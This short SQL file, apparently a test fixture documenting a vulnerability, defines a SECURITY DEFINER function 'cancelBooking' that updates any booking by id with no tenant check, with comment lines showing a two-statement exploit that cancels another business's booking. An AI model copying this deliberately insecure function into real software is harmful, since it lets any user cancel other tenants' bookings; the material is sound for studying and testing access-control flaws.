-- Anybody cancels any booking whose id he knows or guesses: the function with the owner's rights never asks
-- for the business.
-- about: cancelBooking, Booking
-- as: hf_appointments_app
-- exploit: SET app.business_id = 'biz_alpha';
-- exploit: SELECT 'status ' || "cancelBooking"('bk_b');
-- shows: status cancelled
-- The link in the mail cancels the booking.
CREATE FUNCTION "cancelBooking"(p_id TEXT) RETURNS TEXT LANGUAGE sql SECURITY DEFINER
SET search_path = public, pg_temp AS $$
  UPDATE "Booking" SET "status" = 'cancelled' WHERE "id" = p_id RETURNING "status"
$$;
